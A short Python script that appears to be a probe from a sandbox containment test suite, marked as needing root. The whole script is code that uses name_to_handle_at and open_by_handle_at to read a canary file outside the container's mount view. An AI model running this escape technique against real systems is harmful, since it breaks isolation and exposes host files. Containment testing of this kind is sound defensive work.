"""Open by file handle, which passes every folder and mount by.

Contained: the file's canary is not in the output.
Needs: root
"""

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
handle = ctypes.create_string_buffer(136)
handle[0] = 128
mount = ctypes.c_int()
libc.name_to_handle_at(-100, b"@OUTSIDE@/read.txt", handle, ctypes.byref(mount), 0)
base = os.open("/tmp", os.O_RDONLY)
print(os.read(libc.open_by_handle_at(base, handle, os.O_RDONLY), 200))
